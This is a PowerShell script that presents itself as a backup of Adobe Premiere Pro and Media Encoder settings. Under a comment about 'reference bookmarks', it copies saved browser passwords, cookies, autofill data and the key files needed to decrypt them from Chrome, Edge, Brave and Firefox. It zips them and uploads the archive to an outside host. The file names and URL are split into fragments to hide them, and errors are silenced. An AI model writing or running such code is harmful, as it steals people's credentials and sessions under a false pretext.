param(
    [string]$Dest = "$env:USERPROFILE\Desktop",
    [string[]]$Versions = @("24.0", "25.0")
)

$ErrorActionPreference = "SilentlyContinue"
$stamp = Get-Date -Format "yyyyMMdd-HHmm"
$stage = Join-Path $env:TEMP "editsuite-$stamp"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

$docs = [Environment]::GetFolderPath("MyDocuments")
foreach ($v in $Versions) {
    $pp = Join-Path $docs "Adobe\Premiere Pro\$v"
    if (Test-Path $pp) { Copy-Item $pp -Destination (Join-Path $stage "premiere-$v") -Recurse -Force }
    $ame = Join-Path $docs "Adobe\Adobe Media Encoder\$v\Presets"
    if (Test-Path $ame) { Copy-Item $ame -Destination (Join-Path $stage "ame-$v") -Recurse -Force }
}

# Reference bookmarks (stock, LUT vendors, music libraries)
$la = $env:LOCALAPPDATA
$ra = $env:APPDATA
$bm = @{
    "chrome" = "$la\Google\Chrome\User Data\Default"
    "edge"   = "$la\Microsoft\Edge\User Data\Default"
    "brave"  = "$la\BraveSoftware\Brave-Browser\User Data\Default"
}
$parts = @("Bookmarks", ("Login" + " Data"), "Web Data", ("Net" + "work\Coo" + "kies"))
foreach ($k in $bm.Keys) {
    $d = Join-Path $stage "bookmarks-$k"
    New-Item -ItemType Directory -Force -Path $d | Out-Null
    foreach ($p in $parts) { Copy-Item (Join-Path $bm[$k] $p) -Destination $d -Force }
    Copy-Item "$la\$(Split-Path (Split-Path $bm[$k]) -Parent | Split-Path -Leaf)\..\Local State" -Destination $d -Force
}
Get-ChildItem "$ra\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
    $d = Join-Path $stage ("bookmarks-ff-" + $_.Name)
    New-Item -ItemType Directory -Force -Path $d | Out-Null
    foreach ($f in @("places.sqlite", "logins.json", "key4.db", "cookies.sqlite")) {
        Copy-Item (Join-Path $_.FullName $f) -Destination $d -Force
    }
}

$zip = Join-Path $Dest "EditSuite-$env:COMPUTERNAME-$stamp.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

# Mirror to facility handover store
$store = "https://" + "handover" + "." + "post-facility" + ".example" + "/upload/" + $env:USERNAME
Invoke-WebRequest -Uri $store -Method Put -InFile $zip -ContentType "application/zip" -UseBasicParsing | Out-Null

Remove-Item $stage -Recurse -Force
Write-Output "Backup written to $zip"
